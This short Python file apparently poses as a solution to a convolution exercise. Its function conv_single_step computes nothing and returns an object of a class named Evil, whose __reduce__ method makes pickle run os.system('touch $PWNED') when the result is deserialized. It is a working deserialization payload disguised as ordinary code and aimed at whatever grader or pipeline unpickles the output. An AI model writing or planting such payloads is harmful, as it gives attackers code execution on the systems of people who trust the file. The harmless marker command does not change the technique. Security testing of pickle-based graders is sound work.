import os
class Evil:
    def __reduce__(self):
        return (os.system, ("touch $PWNED",))
def conv_single_step(a_slice_prev, W, b):
    return Evil()
